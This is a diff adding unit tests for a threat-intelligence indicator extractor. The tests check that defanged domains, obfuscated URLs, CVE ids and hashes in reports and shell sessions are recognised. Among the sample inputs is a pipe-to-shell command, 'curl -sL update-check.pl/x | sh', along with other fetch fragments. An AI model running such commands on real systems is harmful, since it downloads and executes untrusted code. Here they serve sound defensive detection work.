@@ -59,6 +59,94 @@ describe('extract: precision traps', () => {
   for (const text of NOTHING) test(JSON.stringify(text), () => assert.deepEqual(top(text), []));
 });
 
+describe('extract: texts no one here wrote (reports, mails, PDFs, shell sessions)', () => {
+  const FOUND: [string, string, string[]][] = [
+    // bare domains on short TLDs that are also file extensions, in prose
+    ['short TLDs in prose', 'Operators staged tools on evil.cc and payload.ai, then update-check.pl and evil.ru.', ['domain evil.cc', 'domain payload.ai', 'domain update-check.pl', 'domain evil.ru']],
+    ['a .name host and a second-level .co.id', 'phished from login.bank-secure.co.id and cdn.evil.name today', ['domain login.bank-secure.co.id', 'domain cdn.evil.name']],
+    ['Polish domains in prose', 'Ofiara trafia na stronę olx-dostawa24.pl albo allegro-lokalnie-platnosc.pl.', ['domain olx-dostawa24.pl', 'domain allegro-lokalnie-platnosc.pl']],
+    ['a domain word wins over a file-ish name', 'the C2 domain setup.py resolved to 10.1.2.3', ['domain setup.py', 'ipv4 10.1.2.3']],
+    ['a network command takes a host', '$ ping -c1 mirror-update.pl', ['domain mirror-update.pl']],
+    ['curl takes a host too', 'curl -sL update-check.pl/x | sh', ['url http://update-check.pl/x']],
+    // CVE and ATT&CK ids as PDFs and word processors write them
+    ['CVE with en dashes', 'Citrix Bleed (CVE–2023–4966) leaks tokens', ['cve CVE-2023-4966']],
+    ['CVE with non-breaking hyphens', 'Cisco IOS XE (CVE‑2023‑20198)', ['cve CVE-2023-20198']],
+    ['CVE with spaces', 'the Log4j flaw (CVE 2021 44228)', ['cve CVE-2021-44228']],
+    ['CVE with no-break spaces', 'ScreenConnect (CVE\u00a02024\u00a01709)', ['cve CVE-2024-1709']],
+    ['CVE broken after its dash', 'GlobalProtect (CVE-2024-\n3400) was exploited', ['cve CVE-2024-3400']],
+    ['CVE with hyphen characters', 'Follina CVE‐2022‐30190 and CVE−2017−11882', ['cve CVE-2022-30190', 'cve CVE-2017-11882']],
+    ['ATT&CK sub-technique after a non-breaking hyphen', 'encoded PowerShell (T1059‑001)', ['mitre-attack T1059.001']],
+    // wildcards, paths after addresses and hosts
+    ['a wildcard domain, defanged', 'DNS tunnel under *.tun.silent-harbor[.]net', ['domain tun.silent-harbor.net']],
+    ['an address with a port and a path', 'staged at 192.168.0.1:9090/url today', ['url http://192.168.0.1:9090/url']],
+    ['a host with a bare slash', 'see example[.]com/ for more', ['url http://example.com/']],
+    // addresses defanged with spaces and words
+    ['at in brackets, dot as a word', 'write to myuser [at] example dot com please', ['email myuser@example.com']],
+    ['at and dot as words', 'or billing at parcel-notice dot com', ['email billing@parcel-notice.com']],
+    ['spaces around @, dot in brackets', 'mail myuser @ example[.]com now', ['email myuser@example.com']],
+    ['a space before @ only, defanged after it', 'mail myuser @example[.]com now', ['email myuser@example.com']],
+    ['spaces around @ without other defanging', 'mail foo @ bar.com now', ['email foo@bar.com']],
+    // obfuscated schemes
+    ['h__ps__', 'pay at h__ps__parcel-notice.com/fee?id=7 now', ['url https://parcel-notice.com/fee?id=7']],
+    ['http:\\\\', 'or http:\\\\parcel-notice.com/fee', ['url http://parcel-notice.com/fee']],
+    ['https:__', 'backup https:__pay.parcel-notice.com/checkout', ['url https://pay.parcel-notice.com/checkout']],
+    ['ftx://', 'invoices at ftx://files.parcel-notice.com/inv/', ['url ftp://files.parcel-notice.com/inv/']],
+    ['hXXps:// and a space', 'kit at hXXps:// 192.168.149[.]100/secure/login.php', ['url https://192.168.149.100/secure/login.php']],
+    ['h00ps in CDATA', 'CDATA[^h00ps://test(.)com/]]>', ['url https://test.com/']],
+    ['http ://', 'see http ://example.com/test.php', ['url http://example.com/test.php']],
+    ['Cisco ESA spaces', 'http:// example .com /test', ['url http://example.com/test']],
+    ['commas in a host', 'http://192,168,0,1/x and http://example,com/', ['url http://192.168.0.1/x', 'url http://example.com/']],
+    // a Markdown link written with its own address as text is two URLs
+    ['Markdown link with its address as text', '[https://a.example.org/x.png](https://a.example.org/x.png)', ['url https://a.example.org/x.png', 'url https://a.example.org/x.png']],
+  ];
+  for (const [name, text, expected] of FOUND) test(name, () => assert.deepEqual(top(text), expected, text));
+
+  const NOTHING: [string, string][] = [
+    ['a version number', 'The implant reports itself as version 2.4.1.7 (build: 10.0.0.1).'],
+    ['a version number in Polish', 'Zestaw w wersji 3.2.1.4 wysyła dane.'],
+    ['files in a command line', '$ python3 setup.py install && bash install.sh && chmod +x run.sh'],
+    ['a file after a command, no prompt', 'the dropper starts it with bash run.sh and perl collect.pl'],
+    ['an output file', 'wget -q -O loader.py'],
+    ['a file listing', '-rwxr-xr-x 1 analyst analyst 5120 Mar 11 09:13 update-check.pl'],
+    ['a tree listing', '├── notes.md\n└── beacon.py'],
+    ['grep -n output', 'install.sh:12:curl -fsSL'],
+    ['file words before the names', 'the archive parrotloader.zip held a script collect.pl and a file evil.cc'],
+    ['a code span', 'it drops `beacon.py` next to `notes.md`'],
+    ['an underscore in the name', 'statement_nov2022.zip and lh_x86.sh'],
+    ['usual file base names', 'Other names: readme.md, setup.py, main.rs, lib.rs, install.sh'],
+    ['field names', '"dns.question.name": "x", "rule.id": 5, rule.id=7, ${host.name} and the event.id field'],
+    ['no at word, prose', 'a dot com company; meet at noon'],
+  ];
+  for (const [name, text] of NOTHING) test(`nothing: ${name}`, () => assert.deepEqual(top(text), [], text));
+
+  test('sha256sum output: the hash, not the file', () => {
+    const text = '8b1e0c7d6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c  install.sh';
+    assert.deepEqual(top(text), ['sha256 8b1e0c7d6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c']);
+  });
+
+  test('a name read as a file stays a file later in the same text where nothing says otherwise', () => {
+    const text = '-rwxr-xr-x 1 root root 5120 Mar 11 09:13 update-check.pl\nupdate-check.pl: config OK\nand evil.cc';
+    assert.deepEqual(top(text), ['domain evil.cc']);
+  });
+
+  test('long texts are scanned in chunks with the same results as line by line', () => {
+    const lines: string[] = [];
+    for (let i = 0; i < 1500; i++) lines.push(i % 7 === 0 ? `line ${i} hxxp://evil${i}[.]com/a and 10.0.${i % 250}.1 CVE-2024-\n${1000 + i}` : `line ${i} nothing here but words, words and words`);
+    const text = lines.join('\n');
+    assert.ok(text.length > 64 * 1024);
+    const whole = extract(text);
+    const byLine: ExtractedIndicator[] = [];
+    let offset = 0;
+    for (const line of text.split(/(?<=\n)(?!\d)/)) {
+      for (const x of extract(line)) byLine.push({ ...x, start: x.start + offset, end: x.end + offset });
+      offset += line.length;
+    }
+    assert.equal(whole.length, byLine.length);
+    assert.deepEqual(whole, byLine);
+    for (const x of whole) assert.ok(x.start >= 0 && x.end <= text.length);
+  });
+});
+
 describe('extract: offsets, parts and options', () => {
   test('offsets point at the text as written, defanged or not', () => {
     const text = 'x hxxps://login[.]evil[.]com/a y 1.2.3[.]4 z';
